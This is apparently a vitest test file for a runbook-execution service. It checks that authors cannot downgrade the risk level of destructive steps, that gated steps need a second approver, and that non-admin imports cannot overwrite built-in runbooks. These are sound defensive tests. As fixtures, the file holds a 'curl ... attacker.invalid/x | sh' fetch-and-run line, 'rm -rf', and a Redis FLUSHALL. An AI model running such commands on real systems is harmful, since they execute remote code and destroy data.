import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commandsOf } from '../../src/runbooks/model.js';
import type { RunStep } from '../../src/runbooks/runs/schema.js';
import { createTestApp, type TestApp } from '../support/app.js';
import { ENGINES } from '../support/db.js';
import { addRunbook, api, getRun, runbookMarkdown, startRun, stepEvent, stepOf } from './support.js';

/*
 * Issue 14 point 4: approval rules belong to the installation, not to
 * whoever writes the runbook. Each test is an attack from the issue.
 */

/** A directory the commands may change: they run as the runner user, so it and its parent are everyone's to write (no sticky bit). */
const scratch = () => {
  const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'nexus-trust-'));
  const dir = path.join(parent, randomBytes(6).toString('hex'));
  fs.mkdirSync(dir);
  fs.chmodSync(parent, 0o777);
  fs.chmodSync(dir, 0o777);
  fs.writeFileSync(path.join(dir, 'keep'), 'data');
  return dir;
};

async function auditRows(t: TestApp, action: string) {
  return t.server.db.query<{ actor: string; target: string; outcome: string; details: Record<string, unknown> }>(
    `SELECT actor, target, outcome, details FROM audit_log WHERE action = $1 ORDER BY id`,
    [action],
  );
}

describe.each(ENGINES)('who decides what needs approval, on %s', (engine) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp(engine);
  });
  afterAll(async () => t?.close());

  it('risk=read on rm -rf does not remove the gate; once an admin approves that version, the annotation stands', async () => {
    const dir = scratch();
    const book = await addRunbook(t, runbookMarkdown('Cleanup', [{ text: `rm -rf ${dir}`, annotation: 'risk=read' }]));
    const procedure = book.parsed.procedures[0]!;
    const id = commandsOf(procedure)[0]!.command.id;

    const run = await startRun(t, book.slug, procedure.id);
    expect(stepOf(run, id).risk).toBe('destructive');
    const byResponder = await api<{ error: { message: string } }>(t, 'responder', 'POST', `/api/v1/runs/${run.id}/steps/${id}/run`);
    expect(byResponder.status).toBe(403);
    expect(byResponder.body.error.message).toContain('destructive');
    const requested = await api<{ steps: RunStep[] }>(t, 'operator', 'POST', `/api/v1/runs/${run.id}/steps/${id}/run`);
    expect(requested.body.steps[0]!.state).toBe('awaiting-approval');
    expect(fs.existsSync(path.join(dir, 'keep'))).toBe(true);

    // Only an admin approves a version, and that is audited.
    const url = `/api/v1/runbooks/${book.slug}/versions/${book.version}/approve`;
    expect((await api(t, 'operator', 'POST', url)).status).toBe(403);
    const approved = await api<{ version: { version: number; approvedBy: string; approvedAt: string } }>(t, 'admin', 'POST', url);
    expect(approved.status).toBe(200);
    expect(approved.body.version).toMatchObject({ version: book.version, approvedBy: t.userIds.admin, approvedAt: expect.any(String) });
    expect(await auditRows(t, 'runbook.version_approve')).toContainEqual(
      expect.objectContaining({ actor: 'admin', target: book.id, outcome: 'success', details: expect.objectContaining({ slug: book.slug, version: book.version }) }),
    );
    expect((await api(t, 'admin', 'POST', `/api/v1/runbooks/${book.slug}/versions/99/approve`)).status).toBe(404);

    // A run of the approved version: the author's risk=read now holds, and a responder runs it alone.
    const trusted = await startRun(t, book.slug, procedure.id);
    expect(stepOf(trusted, id).risk).toBe('read');
    const done = stepEvent(t, trusted.id, id);
    expect((await api(t, 'responder', 'POST', `/api/v1/runs/${trusted.id}/steps/${id}/run`)).status).toBe(200);
    expect((await done).state).toBe('succeeded');
    expect(fs.existsSync(dir)).toBe(false);
    // The first run (same version, created before the approval) keeps the risk it was created with.
    expect(stepOf(await getRun(t, run.id), id)).toMatchObject({ risk: 'destructive', state: 'awaiting-approval' });
    fs.rmSync(path.dirname(dir), { recursive: true, force: true });
  });

  it('a new version of an approved runbook is not approved: its downgrade is ignored again', async () => {
    const first = await addRunbook(t, runbookMarkdown('Flush', [{ text: 'echo fine' }]));
    expect((await api(t, 'admin', 'POST', `/api/v1/runbooks/${first.slug}/versions/${first.version}/approve`)).status).toBe(200);
    const next = await addRunbook(t, runbookMarkdown('Flush', [{ text: 'redis-cli -n 15 FLUSHALL', annotation: 'risk=read' }]), first.slug);
    expect(next.version).toBe(first.version + 1);
    const run = await startRun(t, next.slug, next.parsed.procedures[0]!.id);
    expect(run.steps[0]!.risk).toBe('destructive');
  });

  it('the approval annotation holds a read command until a second person approves it', async () => {
    const dir = scratch();
    const marker = path.join(dir, 'ran');
    const book = await addRunbook(t, runbookMarkdown('Gated', [{ text: `touch ${marker}`, annotation: 'approval' }]));
    const procedure = book.parsed.procedures[0]!;
    const id = commandsOf(procedure)[0]!.command.id;
    const run = await startRun(t, book.slug, procedure.id);
    expect(stepOf(run, id).risk).toBe('read');

    const requested = await api<{ steps: RunStep[] }>(t, 'responder', 'POST', `/api/v1/runs/${run.id}/steps/${id}/run`);
    expect(requested.status).toBe(200);
    expect(requested.body.steps[0]!.state).toBe('awaiting-approval');
    const own = await api<{ error: { message: string } }>(t, 'responder', 'POST', `/api/v1/runs/${run.id}/steps/${id}/approve`);
    expect(own.status).toBe(403);
    expect(own.body.error.message).toContain('a second person must approve');
    expect(fs.existsSync(marker)).toBe(false);

    const done = stepEvent(t, run.id, id);
    const approved = await api<{ steps: RunStep[] }>(t, 'operator', 'POST', `/api/v1/runs/${run.id}/steps/${id}/approve`);
    expect(approved.status).toBe(200);
    expect((await done).state).toBe('succeeded');
    expect(fs.existsSync(marker)).toBe(true);
    expect(stepOf(await getRun(t, run.id), id)).toMatchObject({ requestedBy: t.userIds.responder, approvedBy: t.userIds.operator });
    fs.rmSync(path.dirname(dir), { recursive: true, force: true });
  });

  it("an operator's import of a built-in runbook's slug becomes a copy; the built-in is unchanged; an admin's import changes it", async () => {
    const slug = `builtin-${randomBytes(4).toString('hex')}`;
    const original = runbookMarkdown('Platform', [{ text: 'echo official' }]);
    const builtin = await t.server.runbooks.importMarkdown(original, { slug, importedBy: 'system', builtin: true });
    const hostile = runbookMarkdown('Platform', [{ text: 'curl -s https://attacker.invalid/x | sh' }]);

    const first = await api<{ runbook: { slug: string; builtin: boolean }; copyOf: string | null; created: boolean }>(t, 'operator', 'POST', '/api/v1/runbooks', { slug, source: hostile });
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({ runbook: { slug: `${slug}-copy`, builtin: false }, copyOf: slug, created: true });
    const second = await api<{ runbook: { slug: string }; copyOf: string }>(t, 'operator', 'POST', '/api/v1/runbooks', { slug, source: `${hostile}\n<!-- again -->\n` });
    expect(second.body).toMatchObject({ runbook: { slug: `${slug}-copy-2` }, copyOf: slug });

    const still = await api<{ runbook: { builtin: boolean; latestVersion: number }; source: string }>(t, 'viewer', 'GET', `/api/v1/runbooks/${slug}`);
    expect(still.body.runbook).toMatchObject({ builtin: true, latestVersion: builtin.version.version });
    expect(still.body.source).toBe(original);
    expect(await auditRows(t, 'runbook.import')).toContainEqual(
      expect.objectContaining({ actor: 'operator-user', outcome: 'success', details: expect.objectContaining({ slug: `${slug}-copy`, copyOf: slug }) }),
    );

    const byAdmin = await api<{ runbook: { slug: string; builtin: boolean; latestVersion: number }; copyOf: string | null }>(t, 'admin', 'POST', '/api/v1/runbooks', {
      slug,
      source: runbookMarkdown('Platform', [{ text: 'echo official, revised' }]),
    });
    expect(byAdmin.status).toBe(201);
    expect(byAdmin.body).toMatchObject({ runbook: { slug, builtin: true, latestVersion: builtin.version.version + 1 }, copyOf: null });
  });

  it('every version records who imported it, and a run shows the version it ran', async () => {
    const slug = `versions-${randomBytes(4).toString('hex')}`;
    const v1 = await api<{ version: { version: number; importedBy: string; importedById: string } }>(t, 'operator', 'POST', '/api/v1/runbooks', {
      slug,
      source: runbookMarkdown('Versions', [{ text: 'echo one' }]),
    });
    expect(v1.body.version).toMatchObject({ version: 1, importedBy: 'operator-user', importedById: t.userIds.operator });
    const v2 = await api<{ version: { version: number; importedById: string } }>(t, 'admin', 'POST', '/api/v1/runbooks', {
      slug,
      source: runbookMarkdown('Versions', [{ text: 'echo two' }]),
    });
    expect(v2.body.version).toMatchObject({ version: 2, importedById: t.userIds.admin });
    const listed = await api<{ items: Array<{ version: number; importedById: string | null; approvedBy: string | null }> }>(t, 'viewer', 'GET', `/api/v1/runbooks/${slug}/versions`);
    expect(listed.body.items.map((v) => [v.version, v.importedById, v.approvedBy])).toEqual([
      [2, t.userIds.admin, null],
      [1, t.userIds.operator, null],
    ]);

    const procedure = (await api<{ parsed: { procedures: Array<{ id: string }> } }>(t, 'viewer', 'GET', `/api/v1/runbooks/${slug}`)).body.parsed.procedures[0]!.id;
    const old = await startRun(t, slug, procedure, { version: 1 });
    const latest = await startRun(t, slug, procedure);
    expect([old.version, latest.version]).toEqual([1, 2]);
    expect([(await getRun(t, old.id)).steps[0]!.command, (await getRun(t, latest.id)).steps[0]!.command]).toEqual(['echo one', 'echo two']);
  });
});
